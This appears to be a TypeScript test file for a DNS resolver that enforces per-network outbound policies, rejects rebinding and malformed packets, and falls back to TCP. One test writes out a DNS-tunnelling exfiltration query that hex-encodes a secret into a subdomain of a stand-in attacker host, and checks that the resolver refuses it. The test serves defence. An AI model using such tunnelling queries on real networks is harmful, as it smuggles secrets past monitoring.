/**
 * The resolver end to end on loopback: real UDP/TCP sockets on 127.0.0.1, a fake upstream
 * on 127.0.0.1 that records every query it receives. Nothing leaves the host.
 */
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { pino } from 'pino';
import type { Answer, DecodedPacket } from 'dns-packet';
import { validateNetworkPolicy, type NetworkPolicy } from '../../../policies/network-policy.ts';
import { DirectorResolver, type DnsAnswer, type DnsDenied } from '../../../runtime/network/dns/resolver.ts';
import {
  LOOPBACK,
  addressesOf,
  query,
  startFakeUpstream,
  tcpExchange,
  udpExchange,
  type FakeUpstream,
  type UpstreamEntry,
} from './support.ts';

const test = suite('dns resolver');
const UPSTREAM_TIMEOUT_MS = 400;

const a = (name: string, data: string, ttl = 300): Answer => ({ type: 'A', name, ttl, data });
const many = Array.from({ length: 40 }, (_, i) => a('big.pkg.test', `198.51.100.${i + 1}`, 60));
const table = new Map<string, UpstreamEntry>([
  [
    'api.example.test',
    { answers: [a('api.example.test', '203.0.113.10', 300), { type: 'AAAA', name: 'api.example.test', ttl: 1, data: '2001:db8::10' }] },
  ],
  [
    'www.pkg.test',
    { answers: [{ type: 'CNAME', name: 'www.pkg.test', ttl: 30, data: 'files.cdn.test' }, a('files.cdn.test', '198.51.100.7', 99_999)] },
  ],
  ['blocked.pkg.test', { answers: [a('blocked.pkg.test', '198.51.100.9')] }],
  ['meta.pkg.test', { answers: [a('meta.pkg.test', '169.254.169.254')] }],
  ['local.pkg.test', { answers: [a('local.pkg.test', '127.0.0.1')] }],
  ['hook.pkg.test', { answers: [a('hook.pkg.test', '198.51.100.11')] }],
  ['slow.pkg.test', { answers: [], silent: true }],
  ['big.pkg.test', { answers: many, truncateUdp: true }],
  ['txt.pkg.test', { answers: [{ type: 'TXT', name: 'txt.pkg.test', ttl: 60, data: 'hello' }] }],
  ['other.test', { answers: [a('other.test', '198.51.100.20')] }],
]);

const policies = new Map<string, NetworkPolicy | null>([
  [
    'net-a',
    validateNetworkPolicy({
      name: 'pkg',
      outbound: [
        { action: 'allow', protocol: 'tcp', destination: 'api.example.test', port: 443 },
        { action: 'deny', protocol: 'all', destination: 'blocked.pkg.test' },
        { action: 'allow', protocol: 'tcp', destination: '*.pkg.test' },
      ],
    }),
  ],
  ['net-open', null],
  [
    'net-audit',
    validateNetworkPolicy({
      name: 'audit',
      mode: 'audit',
      outbound: [{ action: 'allow', protocol: 'tcp', destination: 'api.example.test' }],
    }),
  ],
]);

const forbidden = (addr: string) => addr.startsWith('169.254.') || addr.startsWith('127.') || addr === '::1';

interface Ctx {
  upstream: FakeUpstream;
  resolver: DirectorResolver;
  ports: Map<string, number>;
  denied: DnsDenied[];
  answered: DnsAnswer[];
}
const ctx = {} as Ctx;
const rcodeOf = (p: DecodedPacket | null | undefined) => (p as { rcode?: string } | null | undefined)?.rcode;
const port = (net: string) => ctx.ports.get(net)!;

test.before(async () => {
  ctx.upstream = await startFakeUpstream(table);
  ctx.denied = [];
  ctx.answered = [];
  ctx.resolver = new DirectorResolver({
    upstream: { address: LOOPBACK, port: ctx.upstream.port },
    policyFor: (id) => policies.get(id) ?? null,
    isForbiddenAddress: forbidden,
    onDenied: (ev) => ctx.denied.push(ev),
    onAnswer: async (ev) => {
      await new Promise((r) => setTimeout(r, 5)); // the reply must wait for this
      if (ev.name === 'hook.pkg.test') throw new Error('nft set update failed');
      ctx.answered.push(ev);
    },
    logger: pino({ level: 'silent' }),
    upstreamTimeoutMs: UPSTREAM_TIMEOUT_MS,
  });
  ctx.ports = new Map();
  for (const id of policies.keys()) ctx.ports.set(id, (await ctx.resolver.listen(id, LOOPBACK, 0)).port);
});

test.before.each(() => {
  ctx.upstream.queries.length = 0;
  ctx.denied.length = 0;
  ctx.answered.length = 0;
});

test.after(async () => {
  await ctx.resolver.closeAll();
  await ctx.upstream.close();
});

test('listens on UDP and TCP on one ephemeral port per network', () => {
  const ports = [...ctx.ports.values()];
  assert.is(new Set(ports).size, 3);
  assert.ok(ports.every((p) => p > 0));
  assert.is(ctx.resolver.stats().networks, 3);
});

test('an allowed name gets the upstream answer, after onAnswer got the addresses with clamped TTLs', async () => {
  const reply = await udpExchange(port('net-a'), query('API.example.test', 'A', { id: 4321 }));
  assert.is(reply?.id, 4321, 'the client id is restored');
  assert.is(rcodeOf(reply), 'NOERROR');
  assert.equal(addressesOf(reply), ['203.0.113.10']);
  assert.equal(ctx.answered, [
    {
      networkId: 'net-a',
      client: LOOPBACK,
      name: 'api.example.test',
      matches: [{ direction: 'outbound', index: 0, host: 'api.example.test' }],
      addresses: [{ addr: '203.0.113.10', family: 4, ttlS: 300 }],
    },
  ]);
  assert.equal(ctx.upstream.queries, [{ transport: 'udp', name: 'API.example.test', type: 'A' }]);
  const v6 = await udpExchange(port('net-a'), query('api.example.test', 'AAAA'));
  assert.equal(addressesOf(v6), ['2001:db8::10']);
  assert.equal(ctx.answered[1]?.addresses, [{ addr: '2001:db8::10', family: 6, ttlS: 5 }], 'TTL 1 raised to 5');
});

test('a CNAME chain feeds every address of the answer, TTL capped at 3600', async () => {
  const reply = await udpExchange(port('net-a'), query('www.pkg.test', 'A'));
  assert.equal(addressesOf(reply), ['198.51.100.7']);
  assert.equal(ctx.answered[0]?.addresses, [{ addr: '198.51.100.7', family: 4, ttlS: 3600 }]);
  assert.equal(ctx.answered[0]?.matches, [{ direction: 'outbound', index: 2, host: '*.pkg.test' }]);
});

test('a name the policy does not allow is REFUSED, reported, and never sent upstream', async () => {
  const reply = await udpExchange(port('net-a'), query('other.test', 'A'));
  assert.is(rcodeOf(reply), 'REFUSED');
  assert.is(reply?.answers?.length, 0);
  assert.equal(ctx.denied, [
    {
      networkId: 'net-a',
      client: LOOPBACK,
      name: 'other.test',
      qtype: 'A',
      reason: 'not_allowed',
      suspectedTunnel: false,
      rcode: 'REFUSED',
      audit: false,
    },
  ]);
  assert.equal(ctx.upstream.queries, []);
  assert.equal(ctx.answered, []);
});

test('a tunnelling-shaped query under a refused name is refused, flagged, and never sent upstream', async () => {
  const payload = Buffer.from('the secret key is hunter2, exfiltrated!').toString('hex').slice(0, 60);
  for (const qtype of ['TXT', 'A']) {
    const reply = await udpExchange(port('net-a'), query(`${payload}.x1.attacker.test`, qtype));
    assert.is(rcodeOf(reply), 'REFUSED');
  }
  const tcp = await tcpExchange(port('net-a'), [query(`${payload}.x2.attacker.test`, 'TXT')]);
  assert.is(rcodeOf(tcp[0]), 'REFUSED');
  assert.is(ctx.denied.length, 3);
  assert.ok(ctx.denied.every((d) => d.suspectedTunnel && d.reason === 'not_allowed'));
  assert.equal(ctx.upstream.queries, []);
});

test('a deny rule ahead of the wildcard that would allow the name refuses it (first match wins)', async () => {
  const reply = await udpExchange(port('net-a'), query('blocked.pkg.test', 'A'));
  assert.is(rcodeOf(reply), 'REFUSED');
  assert.is(ctx.denied[0]?.reason, 'denied_by_rule');
  assert.equal(ctx.upstream.queries, []);
});

test('an answer pointing at a forbidden address (rebinding) is REFUSED and not passed on', async () => {
  for (const name of ['meta.pkg.test', 'local.pkg.test']) {
    const reply = await udpExchange(port('net-a'), query(name, 'A'));
    assert.is(rcodeOf(reply), 'REFUSED', name);
    assert.equal(addressesOf(reply), []);
  }
  assert.equal(
    ctx.denied.map((d) => [d.name, d.reason, d.rcode]),
    [
      ['meta.pkg.test', 'rebinding', 'REFUSED'],
      ['local.pkg.test', 'rebinding', 'REFUSED'],
    ],
  );
  assert.equal(ctx.answered, [], 'forbidden addresses never reach the firewall sets');
  assert.is(ctx.resolver.stats().rebinding, 2);
});

test('when onAnswer fails the client gets SERVFAIL, not the address', async () => {
  const reply = await udpExchange(port('net-a'), query('hook.pkg.test', 'A'));
  assert.is(rcodeOf(reply), 'SERVFAIL');
  assert.equal(addressesOf(reply), []);
  assert.is(ctx.resolver.stats().answerHookFailures, 1);
});

test('a silent upstream gives SERVFAIL within the upstream timeout', async () => {
  const started = Date.now();
  const reply = await udpExchange(port('net-a'), query('slow.pkg.test', 'A'));
  const ms = Date.now() - started;
  assert.is(rcodeOf(reply), 'SERVFAIL');
  assert.ok(ms >= UPSTREAM_TIMEOUT_MS - 50 && ms < UPSTREAM_TIMEOUT_MS + 1000, `${ms} ms`);
  assert.equal(ctx.upstream.queries, [{ transport: 'udp', name: 'slow.pkg.test', type: 'A' }]);
});

test('queries over TCP are answered, several on one connection', async () => {
  const replies = await tcpExchange(port('net-a'), [query('api.example.test', 'A', { id: 11 }), query('txt.pkg.test', 'TXT', { id: 12 })]);
  assert.equal(replies.map((r) => r.id).sort(), [11, 12]);
  const byId = new Map(replies.map((r) => [r.id, r]));
  assert.equal(addressesOf(byId.get(11)), ['203.0.113.10']);
  assert.is(byId.get(12)?.answers?.[0]?.type, 'TXT');
});

test('a truncated upstream UDP answer is retried over TCP; a UDP client too small for it gets TC and retries', async () => {
  const before = ctx.resolver.stats();
  const udp = await udpExchange(port('net-a'), query('big.pkg.test', 'A'));
  assert.is(udp?.flag_tc, true, 'the 40-address answer does not fit 512 bytes');
  assert.equal(
    ctx.upstream.queries.map((q) => q.transport),
    ['udp', 'tcp'],
  );
  assert.is(ctx.answered[0]?.addresses.length, 40, 'the full answer was fed to the sets');
  const after = ctx.resolver.stats();
  assert.is(after.tcpFallbacks - before.tcpFallbacks, 1);
  assert.is(after.truncatedToClient - before.truncatedToClient, 1);
  const [tcp] = await tcpExchange(port('net-a'), [query('big.pkg.test', 'A')]);
  assert.is(addressesOf(tcp).length, 40);
  const edns = await udpExchange(port('net-a'), query('big.pkg.test', 'A', { udpPayloadSize: 4096 }));
  assert.is(addressesOf(edns).length, 40, 'an EDNS client with room gets it over UDP');
});

test('ANY and AXFR are REFUSED as unsupported and never sent upstream', async () => {
  const any = await udpExchange(port('net-a'), query('api.example.test', 'ANY'));
  assert.is(rcodeOf(any), 'REFUSED');
  const [axfr] = await tcpExchange(port('net-a'), [query('api.example.test', 'AXFR')]);
  assert.is(rcodeOf(axfr), 'REFUSED');
  assert.equal(
    ctx.denied.map((d) => [d.qtype, d.reason]),
    [
      ['ANY', 'unsupported'],
      ['AXFR', 'unsupported'],
    ],
  );
  assert.equal(ctx.upstream.queries, []);
});

test('malformed packets do not crash the server: FORMERR when a header is readable, then business as usual', async () => {
  assert.is(await udpExchange(port('net-a'), Buffer.from([0xde, 0xad]), 300), null, 'no header: dropped');
  const header = Buffer.alloc(12);
  header.writeUInt16BE(0xbeef, 0);
  header.writeUInt16BE(1, 4);
  const formerr = await udpExchange(port('net-a'), header);
  assert.is(formerr?.id, 0xbeef);
  assert.is(rcodeOf(formerr), 'FORMERR');
  const dotted = query('xx.pkg.test', 'A');
  dotted[14] = '.'.charCodeAt(0);
  assert.is(rcodeOf(await udpExchange(port('net-a'), dotted)), 'FORMERR');
  const [tcpJunk] = await tcpExchange(port('net-a'), [Buffer.concat([header, Buffer.from([0xff, 0xff, 0xff])])]);
  assert.is(rcodeOf(tcpJunk), 'FORMERR');
  assert.ok(ctx.denied.every((d) => d.reason === 'malformed' && d.rcode === 'FORMERR'));
  assert.equal(ctx.upstream.queries, []);
  assert.equal(addressesOf(await udpExchange(port('net-a'), query('api.example.test', 'A'))), ['203.0.113.10']);
});

test('a network without a policy forwards every name', async () => {
  const reply = await udpExchange(port('net-open'), query('other.test', 'A'));
  assert.equal(addressesOf(reply), ['198.51.100.20']);
  assert.equal(
    ctx.answered.map((x) => [x.networkId, x.name, x.matches]),
    [['net-open', 'other.test', []]],
  );
  const missing = await udpExchange(port('net-open'), query('nowhere.test', 'A'));
  assert.is(rcodeOf(missing), 'NXDOMAIN', 'upstream rcodes are passed through');
  assert.equal(
    ctx.upstream.queries.map((q) => q.name),
    ['other.test', 'nowhere.test'],
  );
  assert.equal(ctx.denied, []);
});

test('in audit mode a refused name is reported and still resolved', async () => {
  const reply = await udpExchange(port('net-audit'), query('other.test', 'A'));
  assert.equal(addressesOf(reply), ['198.51.100.20']);
  assert.equal(
    ctx.denied.map((d) => [d.name, d.reason, d.audit]),
    [['other.test', 'not_allowed', true]],
  );
});

test('listen fails clearly on a non-local address, a taken port and a network already served', async () => {
  try {
    await ctx.resolver.listen('net-x', '192.0.2.1', 0);
    assert.unreachable('bound a non-local address');
  } catch (err) {
    assert.match((err as Error).message, /192\.0\.2\.1 is not an address of this host/);
  }
  try {
    await ctx.resolver.listen('net-y', LOOPBACK, port('net-a'));
    assert.unreachable('bound a taken port');
  } catch (err) {
    assert.match((err as Error).message, /already in use/);
  }
  try {
    await ctx.resolver.listen('net-a', LOOPBACK, 0);
    assert.unreachable('served a network twice');
  } catch (err) {
    assert.is((err as { code?: string }).code, 'CONFLICT');
  }
  assert.is(ctx.resolver.stats().networks, 3);
});

test.run();
